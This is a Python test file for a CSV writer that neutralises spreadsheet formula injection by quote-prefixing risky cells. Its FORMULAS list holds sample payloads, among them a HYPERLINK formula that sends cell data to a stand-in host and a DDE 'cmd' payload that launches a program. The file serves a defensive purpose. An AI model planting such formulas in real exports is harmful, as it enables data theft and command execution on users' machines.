"""No cell of a CSV made for people is taken for a formula, and nothing else in it is touched."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from archive.publish import csv_cells
from scheduler import main
from tests.archive.portal import Portal, page

FORMULAS = ('=HYPERLINK("http://x.example/"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-x", "-", "-=1")
VALUES = st.one_of(
    st.none(),
    st.integers(),
    st.floats(allow_nan=False, allow_subnormal=False),
    st.text(),
    st.sampled_from(FORMULAS),
    st.from_regex("-[0-9].*"),
)


@given(st.lists(st.lists(VALUES, min_size=3, max_size=3), max_size=5))
def test_every_cell_comes_back_guarded_or_as_it_was(rows: list[list[object]]) -> None:
    for raw in (False, True):
        sink = io.StringIO(newline="")
        writer = csv_cells.Writer(sink, raw=raw)
        for row in rows:
            writer.writerow(row)
        read = list(csv.reader(io.StringIO(sink.getvalue(), newline="")))
        assert len(read) == len(rows)
        for row, cells in zip(rows, read, strict=True):
            for value, cell in zip(row, cells, strict=True):
                if isinstance(value, str) and not raw:
                    dangerous = value[:1] in tuple("=+@\t\r") or (value[:1] == "-" and not value[1:2].isdecimal())
                    assert cell == (f"'{value}" if value and dangerous else value)
                else:
                    assert cell == ("" if value is None else str(value))


@pytest.mark.parametrize("text", ["-5", "-0.3万元", "5-3", "（=）", "", "'=1", "a=1"])
def test_what_no_spreadsheet_computes_stays(text: str) -> None:
    assert csv_cells.guarded(text) == text


@pytest.mark.parametrize("raw", [False, True])
def test_the_export_is_guarded_and_says_so(tmp_path: Path, raw: bool) -> None:
    portal = Portal(tmp_path / "data")
    portal.show("/1.html", page())
    portal.walk("/1.html")
    portal.ingest()
    with sqlite3.connect(portal.data / "archive.db") as db:
        db.execute("UPDATE sections SET heading = '=1+1', text = '-见附件'")
    db.close()
    wanted = ["export", "--data", str(portal.data), str(tmp_path / "out"), *(["--raw"] if raw else [])]
    result = CliRunner().invoke(main, wanted)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader((tmp_path / "out/csv/sections-2023.csv").open(encoding="utf-8-sig", newline="")))
    assert {row["heading"] for row in rows} == {"=1+1" if raw else "'=1+1"}
    assert {row["text"] for row in rows} == {"-见附件" if raw else "'-见附件"}
    described = json.loads((tmp_path / "out/datapackage.json").read_text("utf-8"))["description"]
    assert (csv_cells.NOTE in described) is not raw
